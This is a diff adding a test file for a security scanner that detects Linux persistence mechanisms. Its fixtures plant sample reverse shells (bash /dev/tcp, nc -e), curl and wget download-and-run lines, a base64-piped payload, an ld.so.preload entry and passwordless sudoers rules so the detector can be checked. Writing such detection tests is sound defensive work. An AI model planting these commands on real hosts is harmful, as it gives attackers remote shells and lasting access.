@@ -1,0 +1,260 @@
+import assert from "node:assert/strict";
+import type { Finding } from "../../src/core/finding.ts";
+import { persistence } from "../../src/scanners/persistence/index.ts";
+import { fixtureRoot, makeTree, runOne, type TreeEntry } from "../helpers.ts";
+import { ED25519 } from "./persistence_fixtures.ts";
+
+const STOCK = fixtureRoot("persist-debian-stock");
+const isRoot = Deno.uid() === 0;
+
+const PASSWD = [
+  "root:x:0:0:root:/root:/bin/bash",
+  "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin",
+  "alice:x:1000:1000::/home/alice:/bin/bash",
+  "bob:x:1001:1001::/home/bob:/bin/bash",
+].join("\n") + "\n";
+const GROUP = "root:x:0:\nsudo:x:27:alice\ndocker:x:998:bob\nalice:x:1000:\nbob:x:1001:\n";
+
+function base(extra: Record<string, TreeEntry>): Record<string, TreeEntry> {
+  return { "etc/passwd": PASSWD, "etc/group": GROUP, ...extra };
+}
+
+function summary(findings: Finding[]): string[] {
+  return findings.map((f) => `${f.severity} ${f.check_id} ${f.metadata.path ?? ""}`).sort();
+}
+
+Deno.test("persistence: a stock Debian host gives no findings and no warnings", async () => {
+  const r = await runOne(persistence, STOCK);
+  assert.equal(r.status, "ok");
+  assert.deepEqual(r.findings, []);
+  assert.deepEqual(r.warnings, []);
+});
+
+Deno.test("persistence: --persistence-inventory lists every point once, as info, with hashes", async () => {
+  const r = await runOne(persistence, STOCK, { persistenceInventory: true });
+  assert.ok(r.findings.every((f) => f.severity === "info" && f.check_id === "persistence.inventory.point"));
+  const ids = r.findings.map((f) => f.id);
+  assert.equal(new Set(ids).size, ids.length);
+  const kinds = new Set(r.findings.map((f) => f.metadata.kind));
+  for (
+    const k of [
+      "cron",
+      "cron_script",
+      "systemd_timer",
+      "shell_startup",
+      "udev_rule",
+      "sudoers",
+      "xdg_autostart",
+    ]
+  ) {
+    assert.ok(kinds.has(k), k);
+  }
+  assert.ok(!ids.some((id) => id.includes(":/lib/udev/")), "merged /usr: /lib/udev is the same directory");
+  const logrotate = r.findings.find((f) =>
+    f.id === "persistence.inventory.point:systemd_timer:/usr/lib/systemd/system/logrotate.timer"
+  );
+  assert.deepEqual(logrotate?.metadata.triggers, "logrotate.service");
+  assert.deepEqual(logrotate?.metadata.entries, ["/usr/sbin/logrotate /etc/logrotate.conf"]);
+  assert.deepEqual(logrotate?.metadata.enabled, true);
+  const crontab = r.findings.find((f) => f.metadata.path === "/etc/crontab")!;
+  assert.equal(crontab.metadata.entry_count, 4);
+  assert.match(String(crontab.metadata.sha256), /^[0-9a-f]{64}$/);
+});
+
+Deno.test("persistence: payloads and untrusted locations in every kind of point fire once each", async () => {
+  using root = makeTree(base({
+    "etc/cron.d/evil": "* * * * * root curl -fsSL http://203.0.113.5/x | sh\n",
+    "etc/crontab":
+      "SHELL=/bin/sh\n*/5 * * * * root /home/bob/backup.sh\n*/5 * * * * root /home/bob/backup.sh\n",
+    "var/spool/cron/crontabs/bob": "@reboot /tmp/.x/agent\n",
+    "root/.bashrc": "alias ll='ls -l'\n(bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 &)\n",
+    "home/bob/.profile": "echo ZWNobyBoaQ== | base64 -d | sh\n",
+    "etc/udev/rules.d/99-x.rules": 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/var/tmp/u.sh"\n',
+    "etc/ld.so.preload": "# preload\n/dev/shm/libx.so\n",
+    "etc/xdg/autostart/x.desktop": "[Desktop Entry]\nType=Application\nExec=/tmp/x --hidden\n",
+    "home/bob/.config/autostart/y.desktop":
+      '[Desktop Entry]\nExec=sh -c "wget -qO- http://203.0.113.5/y | sh"\n',
+    "etc/systemd/system/evil.timer": "[Timer]\nOnBootSec=1min\nOnUnitActiveSec=5min\n",
+    "etc/systemd/system/evil.service": "[Service]\nType=oneshot\nExecStart=/dev/shm/kw\n",
+    "home/bob/.config/systemd/user/u.service":
+      "[Service]\nExecStart=/bin/sh -c 'nc -e /bin/sh 203.0.113.5 1'\n",
+    "etc/rc.local": { content: "#!/bin/sh -e\n/usr/local/bin/startup\nexit 0\n", mode: 0o755 },
+  }));
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.equal(r.status, "ok");
+  assert.deepEqual(summary(r.findings), [
+    "critical persistence.command.reverse_shell /home/bob/.config/systemd/user/u.service",
+    "critical persistence.command.reverse_shell /root/.bashrc",
+    "high persistence.command.download_exec /etc/cron.d/evil",
+    "high persistence.command.download_exec /home/bob/.config/autostart/y.desktop",
+    "high persistence.command.encoded_payload /home/bob/.profile",
+    "high persistence.command.untrusted_path /etc/crontab",
+    "high persistence.command.untrusted_path /etc/ld.so.preload",
+    "high persistence.command.untrusted_path /etc/systemd/system/evil.timer",
+    "high persistence.command.untrusted_path /etc/udev/rules.d/99-x.rules",
+    "high persistence.command.untrusted_path /etc/xdg/autostart/x.desktop",
+    "high persistence.command.untrusted_path /var/spool/cron/crontabs/bob",
+    "low persistence.rc_local.active /etc/rc.local",
+  ]);
+  const crontab = r.findings.find((f) => f.metadata.path === "/etc/crontab")!;
+  assert.deepEqual(crontab.metadata.indicators, ["other_home:/home/bob/backup.sh"]);
+  assert.deepEqual(crontab.metadata.run_as, "root");
+  assert.match(crontab.id, /^persistence\.command\.untrusted_path:\/etc\/crontab:[0-9a-f]{12}$/);
+  const bob = r.findings.find((f) => f.metadata.path === "/var/spool/cron/crontabs/bob")!;
+  assert.deepEqual([bob.metadata.run_as, bob.metadata.indicators], ["bob", ["temp_dir:/tmp/.x/agent"]]);
+  const timer = r.findings.find((f) => f.metadata.path === "/etc/systemd/system/evil.timer")!;
+  assert.deepEqual(timer.metadata.triggers, "evil.service");
+  const again = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.deepEqual(
+    again.findings.map((f) => f.id),
+    r.findings.map((f) => f.id),
+    "ids are stable across runs",
+  );
+});
+
+Deno.test("persistence: normal entries stay quiet (own home, root-owned programs, files that cannot run, disabled autostart)", async () => {
+  using root = makeTree(base({
+    "var/spool/cron/crontabs/bob": "0 3 * * * /home/bob/bin/backup.sh\n",
+    "etc/cron.d/app": "*/10 * * * * root /usr/local/bin/app-cron --quiet >/dev/null 2>&1\n",
+    "home/bob/.bashrc": "[ -f ~/.bash_aliases ] && . ~/.bash_aliases\nexport PATH=$HOME/bin:$PATH\n",
+    "etc/rc.local": { content: "#!/bin/sh\n/tmp/x\n", mode: 0o644 },
+    "etc/rc.d/rc.local": { content: "#!/bin/bash\ntouch /var/lock/subsys/local\nexit 0\n", mode: 0o755 },
+    "home/bob/.config/autostart/y.desktop": "[Desktop Entry]\nExec=/tmp/y\nHidden=true\n",
+    "usr/local/bin/app-cron": { content: "#!/bin/sh\n", mode: 0o755 },
+    "etc/cron.daily/old.dpkg-old": { content: "#!/bin/sh\ncurl http://203.0.113.5/x | sh\n", mode: 0o755 },
+    "etc/cron.daily/disabled": { content: "#!/bin/sh\n/tmp/x\n", mode: 0o644 },
+    "etc/cron.daily/active": { content: "#!/bin/sh\n/tmp/x\n", mode: 0o755 },
+  }));
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.deepEqual(summary(r.findings), ["high persistence.command.untrusted_path /etc/cron.daily/active"]);
+  const inv = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
+  const inert = inv.findings.filter((f) => f.metadata.inert === true).map((f) => f.metadata.path).sort();
+  assert.deepEqual(inert, ["/etc/cron.daily/disabled", "/etc/cron.daily/old.dpkg-old", "/etc/rc.local"]);
+});
+
+Deno.test("persistence: programs other accounts can change are untrusted (ownership, world-writable)", {
+  ignore: !isRoot,
+}, async () => {
+  using root = makeTree(base({
+    "etc/cron.d/app":
+      "0 * * * * root /opt/app/run.sh\n5 * * * * root /srv/shared/job.sh\n7 * * * * bob /opt/app/run.sh\n",
+    "opt/app/run.sh": { content: "#!/bin/sh\n", mode: 0o755 },
+    "srv/shared/job.sh": { content: "#!/bin/sh\n", mode: 0o757 },
+  }));
+  Deno.chownSync(`${root.path}/opt/app/run.sh`, 1001, 1001);
+  const r = await runOne(persistence, root.path);
+  assert.deepEqual(r.findings.map((f) => [f.severity, f.metadata.run_as, f.metadata.indicators]), [
+    ["high", "root", ["foreign_owner:/opt/app/run.sh"]],
+    ["high", "root", ["world_writable_file:/srv/shared/job.sh"]],
+  ]);
+});
+
+Deno.test("persistence: sudoers — passwordless full root for non-admins, !authenticate, untrusted includes", async () => {
+  using root = makeTree(base({
+    "etc/sudoers": [
+      "Defaults env_reset",
+      "root ALL=(ALL:ALL) ALL",
+      "%sudo ALL=(ALL:ALL) ALL",
+      "alice ALL=(ALL) NOPASSWD: ALL",
+      "bob ALL=(ALL) NOPASSWD: ALL",
+      "%docker ALL=(root) NOPASSWD: /usr/bin/vim",
+      "ALL ALL=(ALL) NOPASSWD: ALL",
+      "bob ALL=(ALL) NOPASSWD: /usr/bin/systemctl restart nginx",
+      "bob ALL=(ALL) ALL",
+      "@includedir /etc/sudoers.d",
+      "#include /tmp/sudo.inc",
+    ].join("\n") + "\n",
+    "etc/sudoers.d/50-ops": "Defaults:bob !authenticate\n",
+    "etc/sudoers.d/README.dpkg-dist": "bob ALL=(ALL) NOPASSWD: ALL\n",
+    "tmp/sudo.inc": "# nothing\n",
+  }));
+  const r = await runOne(persistence, root.path);
+  assert.deepEqual(
+    r.findings.map((f) => `${f.severity} ${f.check_id} ${(f.metadata.principals ?? []) as string[]}`).sort(),
+    [
+      "critical persistence.sudoers.nopasswd_all ALL",
+      "high persistence.sudoers.include_untrusted ",
+      "high persistence.sudoers.no_authenticate ",
+      "high persistence.sudoers.nopasswd_all %docker",
+      "high persistence.sudoers.nopasswd_all bob",
+    ],
+  );
+});
+
+Deno.test("persistence: SSH keys — forced commands, unusual files, recent changes with fingerprints", async () => {
+  const key = `ssh-ed25519 ${ED25519}`;
+  using root = makeTree(base({
+    "root/.ssh/authorized_keys": `command="/usr/local/bin/backup-only" ${key} backup\n`,
+    "home/alice/.ssh/authorized_keys": `${key} alice@laptop\n`,
+    "home/bob/.ssh/authorized_keys2": `${key} bob\n`,
+    "var/www/.ssh/authorized_keys": `${key} deploy\n`,
+    "home/bob/.ssh/authorized_keys": `command="bash -i >& /dev/tcp/203.0.113.5/9 0>&1" ${key} x\n`,
+  }));
+  const old = new Date(Date.now() - 30 * 86_400_000);
+  for (
+    const p of [
+      "root/.ssh/authorized_keys",
+      "home/bob/.ssh/authorized_keys2",
+      "var/www/.ssh/authorized_keys",
+      "home/bob/.ssh/authorized_keys",
+    ]
+  ) {
+    Deno.utimeSync(`${root.path}/${p}`, old, old);
+  }
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 7 });
+  assert.deepEqual(summary(r.findings), [
+    "critical persistence.command.reverse_shell /home/bob/.ssh/authorized_keys",
+    "low persistence.ssh_key.forced_command /home/bob/.ssh/authorized_keys",
+    "low persistence.ssh_key.recent /home/alice/.ssh/authorized_keys",
+    "medium persistence.ssh_key.forced_command /root/.ssh/authorized_keys",
+    "medium persistence.ssh_key.unusual_location /home/bob/.ssh/authorized_keys2",
+    "medium persistence.ssh_key.unusual_location /var/www/.ssh/authorized_keys",
+  ]);
+  const recent = r.findings.find((f) => f.check_id === "persistence.ssh_key.recent")!;
+  assert.deepEqual(recent.metadata.fingerprints, [
+    "ssh-ed25519 SHA256:3Itk2k+36n1W8ICjBqEATNlzg1G1411xJHSKL6U/gGc",
+  ]);
+  assert.equal(typeof recent.metadata.appended_in_place, "boolean");
+  const off = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.ok(!off.findings.some((f) => f.check_id === "persistence.ssh_key.recent"));
+});
+
+Deno.test("persistence: sshd AuthorizedKeysFile is honoured (%u patterns outside the home)", async () => {
+  using root = makeTree(base({
+    "etc/ssh/sshd_config":
+      "AuthorizedKeysFile /etc/ssh/keys/%u .ssh/authorized_keys\nMatch User x\n  AuthorizedKeysFile none\n",
+    "etc/ssh/keys/www-data": `ssh-ed25519 ${ED25519} hidden\n`,
+  }));
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
+  const inv = r.findings.filter((f) => f.metadata.kind === "authorized_keys").map((f) => f.metadata.path);
+  assert.deepEqual(inv, ["/etc/ssh/keys/www-data"]);
+  assert.deepEqual(summary(r.findings.filter((f) => f.check_id !== "persistence.inventory.point")), [
+    "medium persistence.ssh_key.unusual_location /etc/ssh/keys/www-data",
+  ]);
+});
+
+Deno.test("persistence: hostile file names, FIFOs and garbage content neither hang nor throw", async () => {
+  using root = makeTree(base({
+    "etc/cron.d/evil\nname\u001b[31m": "* * * * * root /dev/shm/x\n",
+    "etc/cron.d/garbage": "\u0000\u00ff\u00fe not a crontab\n* * *\n",
+    "etc/sudoers": "\u0000((((\n",
+    "root/.ssh/authorized_keys": "ssh-ed25519 !!!!\n",
+  }));
+  const mk = await new Deno.Command("mkfifo", { args: [`${root.path}/etc/cron.d/fifo`] }).output().catch(() =>
+    null
+  );
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.equal(r.status, "ok");
+  assert.deepEqual(summary(r.findings), [
+    "high persistence.command.untrusted_path /etc/cron.d/evil\nname\u001b[31m",
+  ]);
+  const codes = r.warnings.map((w) => w.code).sort();
+  assert.deepEqual(codes, ["authorized_keys_malformed", "cron_malformed", "sudoers_malformed"]);
+  assert.ok(mk === null || mk.success);
+  JSON.parse(JSON.stringify(r.findings));
+});
+
+Deno.test("persistence: the live host scans without errors", async () => {
+  const r = await runOne(persistence, "/");
+  assert.equal(r.status, "ok");
+});
